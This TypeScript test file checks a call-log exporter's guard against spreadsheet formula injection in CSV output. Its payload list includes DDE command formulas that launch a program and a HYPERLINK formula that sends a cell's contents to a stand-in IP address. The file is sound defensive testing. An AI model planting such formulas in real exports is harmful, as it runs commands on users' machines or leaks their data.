import Papa from 'papaparse'
import { describe, expect, it, test } from 'vitest'
import { DEFAULT_EXPORT, type ExportOptions } from '@shared/model/export'
import { tableFor } from '../../src-main/exports'
import { guarded } from '@shared/format/formula-guard'
import { anyCallLog } from '../support/any-call-log'
import { rowOf } from './rows'
import { written } from './write'

/** What attackers put into names that they show a telephone system. */
const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://203.0.113.9/?x="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '+A1',
  '-A1'
]

/** What telephone systems show, and must stay what it is. */
const HARMLESS = [
  '+33155501234',
  '+33 1 55 50 12 34',
  '+1 (555) 010-0000',
  '-5',
  '*98',
  '#31#0155501234',
  '00442079460177',
  "O'Hara",
  'a=b',
  'Ann @ reception',
  '',
  '"quoted"',
  '1001'
]

/** Behind a tab or a line end in front stands a cell of its own for some programs. */
const safe = (cell: string): string => `'${cell.replace(/^([\t\r\n])/, "$1'")}`

test.each(HOSTILE)('%j gets an apostrophe in front', (cell) => {
  expect(guarded(cell)).toBe(safe(cell))
})

test.each(HARMLESS)('%j stays as it is', (cell) => {
  expect(guarded(cell)).toBe(cell)
})

describe('a CSV file', () => {
  const cells = async (options: Partial<ExportOptions>): Promise<string[][]> => {
    const logs = [...HOSTILE, ...HARMLESS].map((sourceName) => anyCallLog({ sourceName, tags: [sourceName] }))
    const text = await written({ ...DEFAULT_EXPORT, columns: ['sourceName', 'tags'], ...options }, logs)
    return Papa.parse<string[]>(text, { newline: '\r\n' }).data.slice(1, 1 + logs.length)
  }

  it('holds no cell that a spreadsheet runs', async () => {
    const rows = await cells({ guard: true })
    expect(rows.map(([name]) => name)).toEqual([...HOSTILE.map(safe), ...HARMLESS])
    expect(rows.map(([, tags]) => tags)).toEqual(rows.map(([name]) => name))
  })

  it('holds what was shown when the guard is switched off', async () => {
    const rows = await cells({ guard: false })
    expect(rows.map(([name]) => name)).toEqual([...HOSTILE, ...HARMLESS])
  })

  it('is guarded in the forms of other programs too when that is asked for', async () => {
    const text = await written({ ...DEFAULT_EXPORT, columns: 'xivo', guard: true }, [
      anyCallLog({ sourceName: '=1+1' })
    ])
    expect(text).toContain(",'=1+1 (1001),")
  })
})

test.each(['json', 'xlsx', 'pdf'] as const)(
  'a cell of %s is text by its type, and gets no apostrophe',
  (format) => {
    const row = [anyCallLog({ sourceName: '=1+1' })]
    for (const columns of ['xivo', ['sourceName']] as const) {
      const table = tableFor({ ...DEFAULT_EXPORT, format, columns, guard: true }, 0)
      const cells = row.flatMap((log) => table.columns.map(({ text }) => text(rowOf(log, table.fields))))
      expect(cells.some((cell) => cell.startsWith('=1+1'))).toBe(true)
    }
  }
)

test.each([
  ['Ann;=1+1', "Ann;'=1+1"],
  ['Ann,@SUM(A1)', "Ann,'@SUM(A1)"],
  ['Ann;=1+1;', "Ann;'=1+1;"],
  ['Ann\n=1+1', "Ann\n'=1+1"],
  ['Ann\r\n-cmd', "Ann\r\n'-cmd"],
  ['a;b;+cmd,=2', "a;b;'+cmd,'=2"],
  ['=1,=2', "'=1,'=2"]
])('%j is harmless also when its file is read by another separator', (cell, harmless) => {
  expect(guarded(cell)).toBe(harmless)
  // A spreadsheet that parts the cell anywhere finds no formula.
  for (const separator of [';', ',', '\t', '\n'])
    for (const piece of guarded(cell).split(separator)) expect(piece).not.toMatch(/^[=@+-]/)
})

test.each([
  'Durand, Ann',
  'sales;tier 2',
  '+33 1 55,-5',
  'a = b; c = d',
  'Ann;+33 1 55 50 12 34',
  'x;-3',
  '; =1'
])('%j stays as it is', (cell) => {
  expect(guarded(cell)).toBe(cell)
})
